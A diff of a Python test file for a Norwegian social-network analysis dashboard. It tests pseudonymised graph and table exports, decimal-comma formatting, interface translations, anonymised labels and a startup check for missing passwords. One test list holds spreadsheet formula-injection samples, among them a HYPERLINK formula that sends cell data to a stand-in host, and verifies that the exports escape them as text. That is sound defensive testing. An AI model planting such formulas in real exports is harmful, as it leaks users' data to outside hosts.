@@ -6,24 +6,33 @@ pieces they are made of, on graphs whose answers are known by hand (star, line, 
 
 from __future__ import annotations
 
+import csv
 import io
+import subprocess
+import sys
 import urllib.error
 import urllib.request
+import zipfile
 from base64 import b64encode
 
 import networkx as nx
+import openpyxl
 import pandas as pd
 import pytest
+from support.browser import free_port, served_dashboard
 
+from analytics.brokerage import ROLES
 from analytics.compare import compare_views
-from analytics.metrics import person_metrics
+from analytics.ideal_types import IDEAL_TYPES
+from analytics.metrics import compute_metrics, headline, person_metrics
 from analytics.view import View
-from cypher.model import Arc, Person
-from dashboard.browser import served_dashboard
+from cypher.model import POLITICAL_BODY_KINDS, Arc, Person
+from dashboard.app import AuthSettingsError, create_app
 from dashboard.cli import DEFAULT_HOST, DEFAULT_PORT
+from dashboard.data import body_labels, municipality_labels
 from dashboard.elements import difference_elements, network_elements, node_token
 from dashboard.exports import graph_file, labelled_graph, table_file
-from dashboard.i18n import _TEXTS, LANGUAGES, function_label, text
+from dashboard.i18n import _TEXTS, LANGUAGES, csv_delimiter, function_label, number, text
 from dashboard.layout import ROW_LENGTH, gather_isolates, stable_positions
 from netkart.cli import build_parser
 
@@ -153,7 +162,7 @@ def test_difference_elements_follow_compare_views():
     assert {p for p, c in classes.items() if "left" in c} == {"x"}
 
 
-def test_graph_exports_round_trip_with_labels_only():
+def test_graph_exports_round_trip_with_pseudonyms_only():
     labels = {pid: f"Tjenester {i}" for i, pid in enumerate(sorted(STAR.person_by_id))}
     graph = labelled_graph(STAR.graph, labels, stable_positions([STAR]))
     for kind, reader in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
@@ -162,17 +171,89 @@ def test_graph_exports_round_trip_with_labels_only():
         assert back.number_of_nodes() == 7 and back.number_of_edges() == 4
         assert set(back.nodes) == set(labels.values())
         assert b"Navn" not in raw  # roster names never reach an export
+        assert b"Enhet" not in raw and b"Rolle" not in raw  # nor units or roles
+        assert {key for n in back.nodes for key in back.nodes[n]} <= {
+            "label",
+            "functions",
+            "primary_function",
+            "responded",
+            "x",
+            "y",
+        }
     with pytest.raises(ValueError, match="graphml or gexf"):
         graph_file(graph, "dot")
 
 
+def test_graph_exports_key_persons_by_id_so_two_persons_sharing_a_name_stay_two():
+    twins = _view(
+        "2013",
+        [
+            Person("p1", ("services",), True, name="Kari Nordmann"),
+            Person("p2", ("services",), True, name="Kari Nordmann"),
+        ],
+        [("p1", "p2", "daily")],
+    )
+    names = {p.person_id: p.name for p in twins.persons}
+    for kind, reader in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
+        back = reader(io.BytesIO(graph_file(labelled_graph(twins.graph, names, show_ids=True), kind)))
+        assert sorted(back.nodes) == ["p1", "p2"]
+        assert back.number_of_edges() == 1
+        assert {back.nodes[n]["label"] for n in back.nodes} == {"Kari Nordmann"}
+    # Keyed by a label that two persons share, they would merge: that is refused.
+    with pytest.raises(ValueError, match="not unique"):
+        labelled_graph(twins.graph, names)
+
+
+_HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klikk")', "+1+2", "-3+4", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_table_exports_write_formula_like_cells_as_text():
+    frame = pd.DataFrame({"=Hode": _HOSTILE, "Grad": [-1, 2, 3, 4, 5, 6], "Andel": [-0.5, 0.25, 1.0, 0.0, 2.5, 3.0]})
+    for lang, delimiter in (("nb", ";"), ("en", ",")):
+        rows = list(csv.reader(io.StringIO(table_file(frame, "csv", lang).decode("utf-8-sig")), delimiter=delimiter))
+        assert rows[0] == ["'=Hode", "Grad", "Andel"]
+        # OWASP: a leading apostrophe makes the spreadsheet read each of these as text ...
+        assert [r[0] for r in rows[1:]] == ["'" + v for v in _HOSTILE]
+        # ... while numbers, negative ones too, stay numbers in the language's notation.
+        assert [r[1] for r in rows[1:]] == ["-1", "2", "3", "4", "5", "6"]
+        expected = ["-0,5", "0,25", "1", "0", "2,5", "3"] if lang == "nb" else ["-0.5", "0.25", "1", "0", "2.5", "3"]
+        assert [r[2] for r in rows[1:]] == expected
+    raw = table_file(frame, "xlsx")
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
+    book = openpyxl.load_workbook(io.BytesIO(raw))
+    cells = [row[0] for row in book.active.iter_rows(min_row=2, values_only=True)]
+    # (XML stores a lone carriage return as a line feed; it stays text all the same.)
+    assert cells == [*_HOSTILE[:-1], "\nCR"]
+    assert all(row[0].data_type == "s" for row in book.active.iter_rows(min_row=1))
+    assert [row[1] for row in book.active.iter_rows(min_row=2, values_only=True)] == [-1, 2, 3, 4, 5, 6]
+
+
 def test_table_exports_round_trip_with_norwegian_letters():
-    frame = pd.DataFrame({"Funksjon": ["Rådgivning", "Tjenester"], "Grad": [3, 0]})
-    assert pd.read_csv(io.BytesIO(table_file(frame, "csv")), encoding="utf-8-sig").equals(frame)
+    frame = pd.DataFrame({"Funksjon": ["Rådgivning", "Tjenester"], "Grad": [3, 0], "Tetthet": [0.125, 0.5]})
+    english = pd.read_csv(io.BytesIO(table_file(frame, "csv", "en")), encoding="utf-8-sig")
+    assert english.equals(frame)
+    bokmal = pd.read_csv(io.BytesIO(table_file(frame, "csv", "nb")), encoding="utf-8-sig", sep=";", decimal=",")
+    assert bokmal.equals(frame)
     assert pd.read_excel(io.BytesIO(table_file(frame, "xlsx"))).equals(frame)
     assert table_file(frame, "csv").startswith(b"\xef\xbb\xbf")
     with pytest.raises(ValueError, match="csv or xlsx"):
         table_file(frame, "ods")
+
+
+def test_numbers_have_a_decimal_comma_in_bokmal():
+    assert [number(v, "nb") for v in (0.1234, 2.0, -0.5, 7, None, "x", float("nan"))] == [
+        "0,123",
+        "2",
+        "-0,5",
+        "7",
+        "",
+        "x",
+        "",
+    ]
+    assert [number(v, "en") for v in (0.1234, 2.0, -0.5, 7)] == ["0.123", "2", "-0.5", "7"]
+    assert (csv_delimiter("nb"), csv_delimiter("en")) == (";", ",")
 
 
 def test_every_interface_text_exists_in_both_languages():
@@ -181,6 +262,37 @@ def test_every_interface_text_exists_in_both_languages():
     assert text("db_down", "nb") == "Databasen kan ikke nås; prøver igjen …"
     assert function_label("counselling", "nb") == "Rådgivning"
     assert function_label("counselling", "en") == "Financial counselling"
+    with pytest.raises(KeyError, match="no_such_key"):
+        text("no_such_key", "nb")
+
+
+def test_every_code_key_a_page_shows_has_a_text():
+    """Headline measures, turnover figures, ideal types, brokerage roles and body kinds are
+    shown by their text; a missing one would put a snake_case key on the page."""
+    comparison = compare_views(LINE, STAR, permutations=10)
+    keys = set(headline(compute_metrics(STAR))) | set(comparison["metrics"]["delta"])
+    turnover = ["persons_joined", "persons_left", "ties_new", "ties_dropped", "ties_stable", "ties_jaccard"]
+    keys |= {*turnover, "qap_correlation", "qap_p_value"}
+    keys |= {*IDEAL_TYPES, "mixed", *ROLES, *POLITICAL_BODY_KINDS}
+    for lang in LANGUAGES:
+        assert not [key for key in keys if "_" in text(key, lang)]
+    assert text("betweenness", "nb") == "Mellomsentralitet"
+    assert text("bridge_builder", "nb") == "Brobygger"
+
+
+def test_anonymised_municipality_labels_number_the_unaliased_in_name_order():
+    labels = municipality_labels([("Ørland", None), ("Bodø", "B"), ("Alta", None), ("Moss", "A")])
+    assert labels == {"Alta": "#1", "Ørland": "#2", "Bodø": "B", "Moss": "A"}
+
+
+def test_committees_become_numbered_in_anonymised_mode():
+    bodies = [
+        {"key": "b3", "name": "Teknisk utvalg", "kind": "committee"},
+        {"key": "b1", "name": "Ordfører", "kind": "mayor"},
+        {"key": "b2", "name": "Helse- og omsorgsutvalget", "kind": "committee"},
+    ]
+    assert body_labels(bodies, "nb") == {"b1": "Ordfører", "b2": "Utvalg 1", "b3": "Utvalg 2"}
+    assert body_labels(bodies, "en")["b2"] == "Committee 1"
 
 
 def test_serve_defaults_are_local_anonymised_and_port_8050():
@@ -188,6 +300,22 @@ def test_serve_defaults_are_local_anonymised_and_port_8050():
     assert (args.host, args.port, args.show_names) == (DEFAULT_HOST, DEFAULT_PORT, False) == ("127.0.0.1", 8050, False)
     args = build_parser().parse_args(["serve", "--host", "0.0.0.0", "--port", "9000", "--show-names"])
     assert (args.host, args.port, args.show_names) == ("0.0.0.0", 9000, True)
+
+
+def test_a_user_without_a_password_is_a_startup_error(monkeypatch):
+    monkeypatch.setenv("NETKART_DASH_USER", "samling")
+    monkeypatch.delenv("NETKART_DASH_PASSWORD", raising=False)
+    with pytest.raises(AuthSettingsError, match="NETKART_DASH_PASSWORD is not"):
+        create_app()
+    # The served process refuses to start, instead of serving without a login.
+    served = subprocess.run(
+        [sys.executable, "-m", "netkart.cli", "serve", "--port", str(free_port())],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert served.returncode != 0
+    assert "NETKART_DASH_USER is set but NETKART_DASH_PASSWORD is not" in served.stderr
 
 
 def test_basic_auth_from_the_environment(driver, monkeypatch):
